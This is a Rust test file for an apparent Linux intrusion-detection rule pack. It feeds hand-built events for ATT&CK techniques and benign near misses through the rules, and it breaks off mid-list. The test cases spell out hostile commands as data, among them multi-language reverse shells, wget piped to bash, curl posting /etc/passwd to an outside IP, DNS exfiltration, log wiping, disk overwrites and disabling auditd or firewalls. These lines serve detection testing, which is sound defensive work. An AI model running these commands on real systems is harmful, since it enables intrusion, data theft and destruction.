//! The default pack against variants of each technique it claims (other tools, other paths,
//! other spellings than the scenario scripts use), and against the near misses it must stay
//! quiet on. Each case is a short sequence of hand-built events; rate rules see the whole
//! sequence through one counting state.

mod common;

use std::sync::Arc;

use common::*;
use shrike_event::{Event, EventKind, ImageLinks, Process, Signal, Socket, StdioPipe, Timestamp};
use shrike_rules::{Policy, RateState};

/// A setns into a mount namespace by `p` from pid namespace level `level`, the host's or not.
fn host_setns(p: &Process, level: u32, host: bool) -> Event {
    let mut e = setns(p, &sh());
    if let Some(ns) = e.namespace_mut() {
        ns.caller_pid_level = Some(level);
        ns.into_host = host;
        ns.host_namespaces = if host { vec!["mnt".into()] } else { Vec::new() };
    }
    e.result = Some(0);
    e
}

/// Every rule id raised over `events`, evaluated in order with one rate state.
fn raised(policy: &Policy, events: &[Event]) -> Vec<String> {
    let mut rates = RateState::new();
    let mut out = Vec::new();
    let mut ids = Vec::new();
    for (i, e) in events.iter().enumerate() {
        let mut e = e.clone();
        e.time = Timestamp(1_000_000_000 + i as u64 * 1_000_000);
        if let Some(parent) = &e.parent {
            let mut me = (*e.process).clone();
            me.parent_exec_id = Some(parent.exec_id);
            e.process = std::sync::Arc::new(me);
        }
        out.clear();
        policy.evaluate_with(&e, &mut rates, &mut out);
        ids.extend(out.iter().map(|m| m.rule_id.to_string()));
        if !out.is_empty() {
            assert!(
                policy.kernel_plan().admits(&e),
                "the kernel filter would drop {:?} {}",
                e.kind,
                e.process.binary
            );
        }
    }
    ids
}

/// One lineage for every event of the test, so rate groups by parent are stable.
fn sh() -> Vec<Process> {
    static LINEAGE: std::sync::OnceLock<Vec<Process>> = std::sync::OnceLock::new();
    LINEAGE.get_or_init(|| scenario_shell("x.sh")).clone()
}

fn p(binary: &str, args: &[&str]) -> Process {
    process(binary, args)
}

/// `args` run through `sh -c`.
fn sh_c(cmd: &str) -> Event {
    exec(&p("/usr/bin/dash", &["sh", "-c", cmd]), &sh())
}

fn run(binary: &str, args: &[&str]) -> Event {
    exec(&p(binary, args), &sh())
}

fn write(binary: &str, path: &str) -> Event {
    open(&p(binary, &[binary]), &sh(), path, WRITE_NEW)
}

fn read(binary: &str, path: &str) -> Event {
    open(&p(binary, &[binary]), &sh(), path, &["read"])
}

fn signal(sender: &str, sig: i32, target: &str) -> Event {
    let mut e = event(EventKind::Signal, &p(sender, &[sender]), &sh());
    e.set_signal(Signal {
        signal: sig,
        target_pid: 4242,
        target_binary: target.into(),
    });
    e.result = Some(0);
    e
}

/// `binary` run after a process that had connected out (`writer`, if the agent knows it) wrote
/// it `age` seconds before.
fn downloaded(binary: &str, writer: Option<&str>, age: u32) -> Event {
    let mut pr = p(binary, &[binary]);
    pr.links = Process::links_field(ImageLinks {
        binary_downloaded: true,
        binary_writer: writer.map(str::to_string),
        binary_age: Some(age),
        ..ImageLinks::default()
    });
    exec(&pr, &sh())
}

/// `binary args` exec'd with a pipe on `fd` whose other end is `peer`.
fn piped(binary: &str, args: &[&str], fd: u8, peer: &str) -> Event {
    let mut pr = p(binary, args);
    pr.links = Process::links_field(ImageLinks {
        stdio_pipes: vec![StdioPipe {
            fd,
            peer_binary: Some(peer.into()),
            peer_exec_id: None,
        }],
        ..ImageLinks::default()
    });
    exec(&pr, &sh())
}

/// `binary` opened nftables' netlink socket.
fn netfilter_socket(binary: &str) -> Event {
    let mut e = event(EventKind::SocketCreate, &p(binary, &[binary]), &sh());
    e.set_socket(Socket {
        family: "netlink".into(),
        sock_type: "raw".into(),
        protocol: "netfilter".into(),
    });
    e.result = Some(3);
    e
}

/// `n` copies of events made by `f(i)`.
fn many(n: usize, f: impl Fn(usize) -> Event) -> Vec<Event> {
    (0..n).map(f).collect()
}

/// (technique, what, events, the rule that must fire — or "" for none at all)
fn cases() -> Vec<(&'static str, &'static str, Vec<Event>, &'static str)> {
    let www = as_user(p("/usr/bin/dash", &["sh", "-c", "x"]), 33);
    let www_kids = child_of(&www, &sh());
    let container = in_container(p("/usr/bin/dash", &["sh"]));
    let mut deleted = p("/tmp/.x/agent", &["agent"]);
    deleted.pid = 777;
    let self_unlink = unlink(&deleted, &sh(), "/tmp/.x/agent");
    let mut memfd = p("/memfd:x (deleted)", &["x"]);
    memfd.binary_memfd = true;
    let mut preload = p("/usr/bin/id", &["id"]);
    preload.set_env_var("LD_PRELOAD", "/dev/shm/libx.so");
    let fake_root = p("/tmp/exploit", &["./exploit"]);
    // A shell or a command below a server called nothing the pack knows.
    let served = |mut shell: Process, parent: &str| {
        shell.under_server = true;
        shell.server_binary = Some(Arc::new(parent.into()));
        exec(
            &shell,
            &[
                p(parent, &[parent]),
                p("/usr/lib/systemd/systemd", &["/sbin/init"]),
            ],
        )
    };
    vec![
        ("T1003.007", "python reads another process's memory", vec![read("/usr/bin/python3.11", "/proc/1234/mem")], "SHR-CRED-006"),
        ("T1003.007", "gdb (by path) may read memory", vec![read("/usr/bin/gdb", "/proc/1234/mem")], ""),
        ("T1003.007", "a process reads its own maps and environ", vec![{
            let me = p("/usr/bin/cat", &["cat"]);
            let path = format!("/proc/{}/environ", me.pid);
            open(&me, &sh(), &path, &["read"])
        }], ""),
        ("T1003.008", "cp of the shadow file", vec![read("/usr/bin/cp", "/etc/shadow")], "SHR-CRED-001"),
        ("T1014", "insmod of a module in /tmp", vec![module_load(&p("/usr/bin/kmod", &["insmod", "/tmp/r.ko"]), &sh(), Some("/tmp/r.ko"), 0)], "SHR-KRN-002"),
        ("T1014", "a kprobe program loaded by python", vec![bpf_load(&p("/usr/bin/python3.11", &["python3"]), &sh(), "kprobe")], "SHR-KRN-003"),
        ("T1027", "base64 --decode piped to bash", vec![sh_c("echo ZWNobyBoaQ== | base64 --decode | bash")], "SHR-EVA-011"),
        ("T1027", "hex decoded with xxd into sh", vec![sh_c("echo 6964 | xxd -r -p | sh")], "SHR-EVA-011"),
        ("T1027", "a decoded payload eval'd", vec![sh_c("eval \"$(echo aWQ= | base64 -d)\"")], "SHR-EVA-011"),
        ("T1027", "a secret decoded into a file", vec![sh_c("kubectl get secret db -o jsonpath={.data.pw} | base64 -d > /run/pw")], ""),
        ("T1140", "perl decoding and evaluating", vec![run("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "eval(decode_base64('cHJpbnQgMQ=='))"])], "SHR-EVA-012"),
        ("T1140", "php base64_decode into eval", vec![run("/usr/bin/php8.2", &["php", "-r", "eval(base64_decode('ZWNobyAxOw=='));"])], "SHR-EVA-012"),
        ("T1036.004", "argv[0] of a kernel worker", vec![run("/tmp/.m/xmr", &["[kworker/u8:1]"])], "SHR-EVA-008"),
        ("T1036.004", "argv[0] of a daemon on a user binary", vec![run("/usr/bin/python3.11", &["cron", "-f"])], "SHR-EVA-015"),
        ("T1036.004", "MariaDB through its mysqld link is not a disguise", vec![run("/usr/sbin/mariadbd", &["/usr/sbin/mysqld"])], ""),
        ("T1036.005", "a daemon's name in /tmp", vec![run("/tmp/sshd", &["sshd"])], "SHR-EVA-009"),
        ("T1036.005", "a shell copy in a home directory", vec![run("/home/u/.local/sh", &["sh"])], "SHR-EVA-013"),
        ("T1037.004", "an init script written", vec![write("/usr/bin/tee", "/etc/init.d/backdoor")], "SHR-PERS-005"),
        ("T1046", "nmap", vec![run("/usr/bin/nmap", &["nmap", "-sT", "10.0.0.0/24"])], "SHR-DISC-002"),
        ("T1046", "a python socket sweep of 30 ports", { let py = p("/usr/bin/python3.11", &["python3", "scan.py"]); many(30, |i| connect(&py, &sh(), "10.0.0.5", 20 + i as u16)) }, "SHR-DISC-004"),
        ("T1046", "a client making 50 HTTPS connections", { let c = p("/usr/bin/curl", &["curl"]); many(50, |_| connect(&c, &sh(), "10.0.0.5", 443)) }, ""),
        ("T1048.003", "curl posting a file as a form field", vec![run("/usr/bin/curl", &["curl", "-F", "f=@/etc/passwd", "http://203.0.113.7/upload"])], "SHR-C2-011"),
        ("T1048.003", "wget --post-file", vec![run("/usr/bin/wget", &["wget", "--post-file=/etc/passwd", "http://203.0.113.7/"])], "SHR-C2-011"),
        ("T1048.003", "curl over HTTPS is not cleartext", vec![run("/usr/bin/curl", &["curl", "-T", "backup.tgz", "https://backup.example.com/"])], ""),
        ("T1048.003", "a 63-character hex label", vec![dns(&p("/usr/bin/dig", &["dig"]), &sh(), "4f9a1c0d2b7e6a5f8c3d1e0b9a7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9.t.evil.example")], "SHR-C2-009"),
        ("T1048.003", "ordinary names", vec![dns(&p("/usr/bin/curl", &["curl"]), &sh(), "www.example.com"), dns(&p("/usr/bin/curl", &["curl"]), &sh(), "d1a2b3c4d5e6f7.cloudfront.net")], ""),
        ("T1071.004", "45 distinct names under one domain", { let py = p("/usr/bin/python3.11", &["python3"]); many(45, |i| dns(&py, &sh(), &format!("c{i}.t.tunnel.example"))) }, "SHR-C2-010"),
        ("T1053.002", "at scheduling a job", vec![run("/usr/bin/at", &["at", "now", "+", "1", "minute"])], "SHR-PERS-010"),
        ("T1053.002", "atq lists jobs", vec![run("/usr/bin/at", &["at", "-l"])], ""),
        ("T1053.003", "crontab installing a file", vec![write("/usr/bin/crontab", "/var/spool/cron/crontabs/root")], "SHR-PERS-001"),
        ("T1053.006", "a timer renamed into place", vec![rename(&p("/usr/bin/mv", &["mv"]), &sh(), "/tmp/t", "/etc/systemd/system/x.timer")], "SHR-PERS-011"),
        ("T1053.006", "systemd-run --on-active", vec![run("/usr/bin/systemd-run", &["systemd-run", "--on-active=30", "/tmp/x"])], "SHR-PERS-011"),
        ("T1055.008", "python pokes another process", vec![ptrace(&p("/usr/bin/python3.11", &["python3"]), &sh(), "PTRACE_POKETEXT", &p("/usr/sbin/sshd", &["sshd"]))], "SHR-KRN-005"),
        ("T1055.008", "perl writes another process's memory with process_vm_writev", vec![ptrace(&p("/usr/bin/perl", &["perl", "-e", "syscall(311, ...)"]), &sh(), "PROCESS_VM_WRITEV", &p("/usr/sbin/sshd", &["sshd"]))], "SHR-KRN-005"),
        ("T1003.007", "python reads another process's memory with process_vm_readv", vec![ptrace(&p("/usr/bin/python3.11", &["python3"]), &sh(), "PROCESS_VM_READV", &p("/usr/sbin/sshd", &["sshd"]))], "SHR-CRED-008"),
        ("T1003.007", "py-spy (by path) samples a python process", vec![ptrace(&p("/usr/bin/py-spy", &["py-spy", "top", "--pid", "812"]), &sh(), "PROCESS_VM_READV", &p("/usr/bin/python3.11", &["python3"]))], ""),
        ("T1055.009", "python patches another process through /proc/PID/mem", vec![open(&p("/usr/bin/python3.11", &["python3"]), &sh(), "/proc/1234/mem", &["read", "write"])], "SHR-KRN-008"),
        ("T1055.009", "gdb (by path) writes a process's memory", vec![open(&p("/usr/bin/gdb", &["gdb"]), &sh(), "/proc/1234/mem", &["read", "write"])], ""),
        ("T1505.003", "a shell under an unnamed server", vec![served(p("/usr/bin/dash", &["sh", "-c", "id"]), "/opt/shop/bin/storefront")], "SHR-EXEC-014"),
        ("T1082", "a server runs uname itself (no shell)", vec![served(p("/usr/bin/uname", &["uname", "-a"]), "/opt/shop/bin/storefront")], ""),
        ("T1505.003", "a login shell under sshd (the listener not seen by the agent)", vec![{
            let mut shell = p("/usr/bin/bash", &["-bash"]);
            shell.under_server = true;
            exec(&shell, &[p("/usr/sbin/sshd", &["sshd: root@pts/0"]), p("/usr/sbin/sshd", &["sshd"])])
        }], ""),
        ("T1505.003", "a shell ten images below sshd, whose ancestors no longer show it", vec![{
            let mut shell = p("/usr/bin/dash", &["sh", "-c", "cc -c x.c"]);
            shell.under_server = true;
            shell.server_binary = Some(Arc::new("/usr/sbin/sshd".into()));
            let chain = ["/usr/bin/make", "/usr/bin/bash", "/usr/bin/tmux", "/usr/bin/bash", "/usr/bin/sudo", "/usr/bin/bash", "/usr/bin/bash", "/usr/bin/make"];
            exec(&shell, &chain.map(|b| p(b, &[b])))
        }], ""),
        ("T1505.003", "a web shell under a server someone started from an ssh session", vec![{
            let mut shell = p("/usr/bin/dash", &["sh", "-c", "id"]);
            shell.under_server = true;
            shell.server_binary = Some(Arc::new("/opt/shop/bin/storefront".into()));
            exec(&shell, &[p("/opt/shop/bin/storefront", &["storefront"]), p("/usr/bin/bash", &["-bash"]), p("/usr/sbin/sshd", &["sshd: root@pts/0"]), p("/usr/sbin/sshd", &["sshd"])])
        }], "SHR-EXEC-014"),
        ("T1505.003", "a shell under a shell under a server", vec![{
            let mut shell = p("/usr/bin/dash", &["sh", "-c", "ls"]);
            shell.under_server = true;
            exec(&shell, &[p("/usr/bin/bash", &["bash"]), p("/opt/shop/bin/storefront", &["storefront"])])
        }], ""),
        ("T1055.008", "gdb told to dlopen", vec![run("/usr/bin/gdb", &["gdb", "-p", "812", "-batch", "-ex", "call (void*)dlopen(\"/tmp/x.so\", 2)"])], "SHR-KRN-007"),
        ("T1059.004", "a FIFO reverse shell with nc", vec![sh_c("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f")], "SHR-EXEC-010"),
        ("T1059.004", "wget piped to bash", vec![sh_c("wget -qO- http://203.0.113.7/s.sh | bash")], "SHR-EXEC-009"),
        ("T1059.004", "openssl s_client piped to a shell", vec![sh_c("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s")], "SHR-EXEC-010"),
        ("T1059.006", "python pty reverse shell", vec![run("/usr/bin/python3.11", &["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"])], "SHR-EXEC-008"),
        ("T1059", "ruby TCPSocket", vec![run("/usr/bin/ruby3.1", &["ruby", "-rsocket", "-e", "f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"])], "SHR-EXEC-008"),
        ("T1059", "php fsockopen", vec![run("/usr/bin/php8.2", &["php", "-r", "$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"])], "SHR-EXEC-008"),
        ("T1059", "lua socket", vec![run("/usr/bin/lua5.4", &["lua", "-e", "local s=require('socket');local t=s.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3')"])], "SHR-EXEC-008"),
        ("T1059", "gawk /inet/tcp", vec![run("/usr/bin/gawk", &["awk", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while ((s |& getline c) > 0) { while ((c | getline) > 0) print |& s }}"])], "SHR-EXEC-008"),
        ("T1059", "a python one-liner for JSON is fine", vec![run("/usr/bin/python3.11", &["python3", "-c", "import json,sys; print(json.load(sys.stdin)['a'])"])], ""),
        ("T1068", "a /tmp program becomes root", vec![cred_change(&fake_root, &sh(), (1000, 1000), (0, 0), &[])], "SHR-PRIV-003"),
        ("T1068", "setpriv raising effective caps it was permitted", vec![{
            let mut e = cred_change(&p("/usr/bin/setpriv", &["setpriv", "--reuid=33"]), &sh(), (33, 33), (33, 33), &["CAP_SYS_ADMIN"]);
            if let Some(c) = e.cred_mut() {
                c.old.cap_permitted = vec!["CAP_SYS_ADMIN".into()];
                c.new.cap_permitted = vec!["CAP_SYS_ADMIN".into()];
                c.new.cap_effective = vec!["CAP_SYS_ADMIN".into()];
            }
            e
        }], ""),
        ("T1070.002", "a log deleted", vec![unlink(&p("/usr/bin/rm", &["rm"]), &sh(), "/var/log/auth.log")], "SHR-EVA-003"),
        ("T1070.002", "wtmp rewritten by utmpdump", vec![open(&p("/usr/bin/utmpdump", &["utmpdump", "-r"]), &sh(), "/var/log/wtmp", &["write"])], "SHR-EVA-017"),
        ("T1070.003", "history removed", vec![unlink(&p("/usr/bin/rm", &["rm"]), &sh(), "/root/.bash_history")], "SHR-EVA-004"),
        ("T1070.003", "history truncated by a script's shell", vec![open(&p("/usr/bin/bash", &["bash", "/tmp/clean.sh"]), &sh(), "/root/.bash_history", &["write", "truncate"])], "SHR-EVA-004"),
        ("T1070.003", "an interactive shell saving its history", vec![open(&p("/usr/bin/bash", &["-bash"]), &sh(), "/root/.bash_history", &["write", "truncate"])], ""),
        ("T1070.004", "a program unlinks itself", vec![self_unlink], "SHR-EVA-018"),
        ("T1070.004", "rm of someone else's file", vec![unlink(&p("/usr/bin/rm", &["rm", "/tmp/a"]), &sh(), "/tmp/a")], ""),
        ("T1070.006", "touch -d with a date", vec![run("/usr/bin/touch", &["touch", "-d", "2019-03-01 10:00", "/usr/bin/.x"])], "SHR-EVA-020"),
        ("T1070.006", "touch -t attached", vec![run("/usr/bin/touch", &["touch", "-t201901010000", "/tmp/x"])], "SHR-EVA-020"),
        ("T1070.006", "touch an epoch stamp", vec![run("/usr/bin/touch", &["touch", "-d", "@1700000000", "f"])], ""),
        ("T1070.006", "python os.utime backdates a dropped program", vec![utimes(&p("/usr/bin/python3.11", &["python3", "-c", "x"]), &sh(), "/usr/local/bin/.cache-helper", Some(1_546_300_800))], "SHR-EVA-037"),
        ("T1070.006", "busybox touch -r onto a cron file", vec![utimes(&p("/usr/bin/busybox", &["touch", "-r", "/etc/hostname", "/etc/cron.d/x"]), &sh(), "/etc/cron.d/x", Some(1_600_000_000))], "SHR-EVA-037"),
        ("T1070.006", "perl utime on a user's .bashrc", vec![utimes(&p("/usr/bin/perl", &["perl", "-e", "utime"]), &sh(), "/home/alice/.bashrc", Some(0))], "SHR-EVA-037"),
        ("T1070.006", "a copy of tar outside its path is not tar", vec![utimes(&p("/tmp/.t/tar", &["tar", "-x"]), &sh(), "/usr/sbin/sshd", Some(1_500_000_000))], "SHR-EVA-037"),
        ("T1070.006", "plain touch of a program (now)", vec![utimes(&p("/usr/bin/touch", &["touch", "/usr/local/bin/tool"]), &sh(), "/usr/local/bin/tool", None)], ""),
        ("T1070.006", "tar -x restoring an archive's times in /usr/local/bin", vec![utimes(&p("/usr/bin/tar", &["tar", "-xzf", "node.tgz", "-C", "/usr/local"]), &sh(), "/usr/local/bin/node", Some(1_700_000_000))], ""),
        ("T1070.006", "cp -p into /opt", vec![utimes(&p("/usr/bin/cp", &["cp", "-p", "a", "/opt/app/a"]), &sh(), "/opt/app/a", Some(1_700_000_000))], ""),
        ("T1070.006", "dpkg unpacking a package", vec![utimes(&p("/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]), &sh(), "/usr/bin/hello", Some(1_700_000_000))], ""),
        ("T1070.006", "gzip under logrotate keeps a log's time", vec![utimes(&p("/usr/bin/gzip", &["gzip"]), &[p("/usr/sbin/logrotate", &["logrotate"])], "/var/log/app.log.1.gz", Some(1_700_000_000))], ""),
        ("T1070.006", "explicit times on a file in a build tree", vec![utimes(&p("/usr/bin/python3.11", &["python3"]), &sh(), "/home/alice/src/x.c", Some(1_700_000_000))], ""),
        ("T1070.006", "date -s", vec![run("/usr/bin/date", &["date", "-s", "2019-01-01"])], "SHR-EVA-021"),
        ("T1082", "a discovery burst as www-data", vec![exec(&as_user(p("/usr/bin/id", &["id"]), 33), &www_kids), exec(&as_user(p("/usr/bin/uname", &["uname", "-a"]), 33), &www_kids), exec(&as_user(p("/usr/bin/hostname", &["hostname"]), 33), &www_kids), exec(&as_user(p("/usr/bin/ps", &["ps", "aux"]), 33), &www_kids)], "SHR-DISC-005"),
        ("T1082", "the same commands as root", vec![run("/usr/bin/id", &["id"]), run("/usr/bin/uname", &["uname"]), run("/usr/bin/hostname", &["hostname"]), run("/usr/bin/ps", &["ps"])], ""),
        ("T1090", "chisel renamed, by its arguments", vec![run("/tmp/.x/update", &["update", "client", "203.0.113.7:8000", "R:socks"])], "SHR-C2-008"),
        ("T1572", "ssh -R", vec![run("/usr/bin/ssh", &["ssh", "-fN", "-R", "2222:localhost:22", "u@203.0.113.7"])], "SHR-C2-006"),
        ("T1572", "ssh -L is ordinary", vec![run("/usr/bin/ssh", &["ssh", "-L", "5432:db:5432", "bastion"])], ""),
        ("T1098.004", "authorized_keys of a user", vec![write("/usr/bin/tee", "/home/u/.ssh/authorized_keys")], "SHR-PERS-003"),
        ("T1105", "wget -O into /tmp from an IP", vec![run("/usr/bin/wget", &["wget", "http://203.0.113.7/x", "-O", "/tmp/x"])], "SHR-EXEC-012"),
        ("T1105", "curl into /dev/shm", vec![run("/usr/bin/curl", &["curl", "-o", "/dev/shm/.k", "http://203.0.113.7:8080/k"])], "SHR-EXEC-012"),
        ("T1105", "curl by name into /tmp", vec![run("/usr/bin/curl", &["curl", "-fsSLo", "/tmp/rustup.sh", "https://sh.rustup.rs"])], ""),
        ("T1105", "a perl downloader's hidden drop", vec![downloaded("/home/u/.local/share/.agent", Some("/usr/bin/perl"), 4)], "SHR-EXEC-015"),
        ("T1105", "a drop in a hidden directory of a home", vec![downloaded("/home/u/.config/.x/agent", Some("/usr/bin/perl"), 4)], "SHR-EXEC-016"),
        ("T1105", "a drop in /var/tmp whose writer the agent no longer knows", vec![downloaded("/var/tmp/kinsing", None, 90_000)], "SHR-EXEC-015"),
        ("T1105", "a fetched tool run from /usr/local/bin", vec![downloaded("/usr/local/bin/netscan", Some("/usr/bin/curl"), 12)], "SHR-EXEC-016"),
        ("T1105", "cargo install's binary run", vec![downloaded("/root/.cargo/bin/ripgrep", Some("/root/.cargo/bin/cargo"), 30)], ""),
        ("T1105", "a download run a day later from /opt", vec![downloaded("/opt/tool/bin/tool", Some("/usr/bin/curl"), 86_000)], ""),
        ("T1562.004", "a python netlink client opening nftables' socket", vec![netfilter_socket("/usr/bin/python3.11")], "SHR-EVA-038"),
        ("T1562.004", "a renamed copy of nft", vec![netfilter_socket("/tmp/.n")], "SHR-EVA-038"),
        ("T1562.004", "nft itself", vec![netfilter_socket("/usr/sbin/nft")], ""),
        ("T1562.004", "iptables-nft", vec![netfilter_socket("/usr/sbin/xtables-nft-multi")], ""),
        ("T1059.004", "a shell reading stdin from wget", vec![piped("/usr/bin/bash", &["bash"], 0, "/usr/bin/wget")], "SHR-EXEC-017"),
        ("T1059.004", "curl whose stdout a shell reads", vec![piped("/usr/bin/curl", &["curl", "-s", "http://x/s"], 1, "/usr/bin/dash")], "SHR-EXEC-017"),
        ("T1059.004", "curl output formatted by python", vec![piped("/usr/bin/python3.11", &["python3", "-m", "json.tool"], 0, "/usr/bin/curl")], ""),
        ("T1059.004", "a shell -c given data by curl", vec![piped("/usr/bin/dash", &["sh", "-c", "cat > /tmp/k.asc"], 0, "/usr/bin/curl")], ""),
        ("T1140", "xxd -r into a shell", vec![piped("/usr/bin/dash", &["sh", "-s"], 0, "/usr/bin/xxd")], "SHR-EXEC-017"),
        ("T1140", "a local script fed to sh by cat", vec![piped("/usr/bin/dash", &["sh"], 0, "/usr/bin/cat")], ""),
        ("T1059", "base64 output read by perl", vec![piped("/usr/bin/perl", &["perl"], 0, "/usr/bin/base64")], "SHR-EXEC-017"),
        ("T1136.001", "adduser (perl) creating a user", vec![{
            let mut a = p("/usr/bin/perl", &["/usr/sbin/adduser", "bob"]);
            a.script = Some("/usr/sbin/adduser".into());
            exec(&a, &sh())
        }], "SHR-PERS-014"),
        ("T1136.001", "a maintainer script adding a system user", vec![exec(&p("/usr/sbin/useradd", &["useradd", "--system", "svc"]), &child_of(&p("/usr/bin/dpkg", &["dpkg", "-i"]), &sh()))], ""),
        ("T1222.002", "chmod 777 on a file in /etc", vec![chmod(&p("/usr/bin/chmod", &["chmod"]), &sh(), "/etc/cron.allow", 0o100777)], "SHR-EVA-032"),
        ("T1222.002", "chattr +ia", vec![run("/usr/bin/chattr", &["chattr", "+ia", "/etc/cron.d/x"])], "SHR-EVA-031"),
        ("T1485", "dd over a disk", vec![open(&p("/usr/bin/dd", &["dd", "if=/dev/zero", "of=/dev/sda"]), &sh(), "/dev/sda", &["write"])], "SHR-IMP-001"),
        ("T1485", "120 unlinks in /var/www", { let rm = p("/usr/bin/rm", &["rm", "-rf", "/var/www"]); many(120, |i| unlink(&rm, &sh(), &format!("/var/www/html/f{i}"))) }, "SHR-IMP-002"),
        ("T1486", "gpg -c over several files", many(6, |i| run("/usr/bin/gpg", &["gpg", "--batch", "--passphrase", "x", "-c", &format!("/home/u/doc{i}")])), "SHR-IMP-004"),
        ("T1486", "python renaming to .enc", { let py = p("/usr/bin/python3.11", &["python3", "r.py"]); many(25, |i| rename(&py, &sh(), &format!("/home/u/d{i}.docx"), &format!("/home/u/d{i}.docx.enc"))) }, "SHR-IMP-005"),
        ("T1489", "two services stopped", vec![run("/usr/bin/systemctl", &["systemctl", "stop", "mariadb"]), run("/usr/bin/systemctl", &["systemctl", "stop", "apache2.service"])], "SHR-IMP-006"),
        ("T1489", "one service restarted", vec![run("/usr/bin/systemctl", &["systemctl", "restart", "nginx"])], ""),
        ("T1496", "xmrig", vec![run("/opt/x/xmrig", &["xmrig", "-o", "pool.minexmr.com:4444"])], "SHR-C2-004"),
        ("T1505.003", "php-fpm runs a shell", vec![exec(&p("/usr/bin/dash", &["sh", "-c", "id"]), &child_of(&p("/usr/sbin/php-fpm8.2", &["php-fpm"]), &sh()))], "SHR-EXEC-006"),
        ("T1505.003", "tomcat (java) runs a shell", vec![exec(&p("/usr/bin/bash", &["bash", "-c", "whoami"]), &child_of(&p("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", &["java", "-cp", "x", "org.apache.catalina.startup.Bootstrap", "start"]), &sh()))], "SHR-EXEC-006"),
        ("T1543.002", "a service unit written", vec![write("/usr/bin/cp", "/etc/systemd/system/evil.service")], "SHR-PERS-002"),
        ("T1543.002", "systemctl enable (by path)", vec![write("/usr/bin/systemctl", "/etc/systemd/system/multi-user.target.wants/x.service")], ""),
        ("T1546.004", "a profile.d script", vec![write("/usr/bin/tee", "/etc/profile.d/x.sh")], "SHR-PERS-004"),
        ("T1547.006", "modprobe.d install hook", vec![write("/usr/bin/tee", "/etc/modprobe.d/x.conf")], "SHR-PERS-012"),
        ("T1548.001", "setcap cap_setuid on python", vec![run("/usr/sbin/setcap", &["setcap", "cap_setuid+ep", "/usr/bin/python3.11"])], "SHR-PRIV-006"),
        ("T1548.003", "a sudoers drop-in", vec![write("/usr/bin/tee", "/etc/sudoers.d/x")], "SHR-PRIV-002"),
        ("T1552.001", "grep -ri for passwords", vec![run("/usr/bin/grep", &["grep", "-ri", "password", "/home", "/var/www"])], "SHR-CRED-007"),
        ("T1552.001", "find -name credentials files", vec![run("/usr/bin/find", &["find", "/", "-name", "*.pem"])], "SHR-CRED-007"),
        ("T1552.001", "a .netrc read by cat", vec![read("/usr/bin/cat", "/home/u/.netrc")], "SHR-CRED-005"),
        ("T1552.001", "a grep -r for a function name", vec![run("/usr/bin/grep", &["grep", "-rn", "parse_config", "src/"])], ""),
        ("T1552.004", "find -name id_rsa", vec![run("/usr/bin/find", &["find", "/", "-xdev", "-name", "id_rsa"])], "SHR-CRED-007"),
        ("T1552.004", "a key read by tar", vec![read("/usr/bin/tar", "/root/.ssh/id_rsa")], "SHR-CRED-002"),
        ("T1556.003", "a PAM config written", vec![write("/usr/bin/sed", "/etc/pam.d/sshd")], "SHR-PERS-009"),
        ("T1562.001", "systemctl stop auditd", vec![run("/usr/bin/systemctl", &["systemctl", "stop", "auditd"])], "SHR-EVA-023"),
        ("T1562.001", "auditd killed", vec![signal("/usr/bin/kill", 9, "/usr/sbin/auditd")], "SHR-EVA-025"),
        ("T1562.001", "setenforce 0", vec![run("/usr/sbin/setenforce", &["setenforce", "0"])], "SHR-EVA-026"),
        ("T1562.004", "iptables -F", vec![run("/usr/sbin/xtables-nft-multi", &["iptables", "-F"])], "SHR-EVA-027"),
        ("T1562.004", "ufw disable", vec![run("/usr/sbin/ufw", &["ufw", "disable"])], "SHR-EVA-027"),
        ("T1562.004", "nft flush ruleset", vec![run("/usr/sbin/nft", &["nft", "flush", "ruleset"])], "SHR-EVA-027"),
        ("T1562.004", "iptables -L", vec![run("/usr/sbin/iptables", &["iptables", "-L", "-n"])], ""),
        ("T1562.006", "auditd.conf written", vec![write("/usr/bin/sed", "/etc/audit/auditd.conf")], "SHR-EVA-028"),
        ("T1562.012", "auditctl -e 0", vec![run("/usr/sbin/auditctl", &["auditctl", "-e", "0"])], "SHR-EVA-029"),
        ("T1564.001", "a file in a hidden /tmp directory", vec![write("/usr/bin/cp", "/tmp/.ssh-agent-x/miner")], "SHR-EVA-030"),
        ("T1564.001", "a cargo build's .tmpXXXXXX", vec![write("/usr/bin/cc", "/tmp/.tmpAb3dE9/x.o")], ""),
        ("T1571", "nc to port 4444", vec![connect(&p("/usr/bin/nc.openbsd", &["nc", "203.0.113.7", "4444"]), &sh(), "203.0.113.7", 4444)], "SHR-C2-005"),
        ("T1574.006", "LD_PRELOAD from /dev/shm", vec![exec(&preload, &sh())], "SHR-EVA-005"),
        ("T1609", "kubectl in a container", vec![exec(&in_container(p("/usr/local/bin/kubectl", &["kubectl", "get", "pods"])), &sh())], "SHR-CTR-006"),
        ("T1611", "a host disk mounted in a container", vec![mount(&container, &sh(), "/dev/vda1", "/mnt", "ext4")], "SHR-CTR-001"),
        ("T1611", "release_agent written", vec![open(&container, &sh(), "/tmp/cg/release_agent", &["write"])], "SHR-CTR-002"),
        ("T1611", "a sandbox's process enters the host's mount namespace", vec![host_setns(&p("/usr/bin/python3.11", &["python3"]), 2, true)], "SHR-CTR-007"),
        ("T1611", "an admin on the host runs nsenter -t 1", vec![host_setns(&p("/usr/bin/nsenter", &["nsenter", "-t", "1", "-m"]), 0, true)], ""),
        ("T1611", "a sandbox's process joins its own namespace again", vec![host_setns(&p("/usr/bin/nsenter", &["nsenter"]), 1, false)], ""),
        ("T1620", "exec from a memfd", vec![exec(&memfd, &sh())], "SHR-EVA-006"),
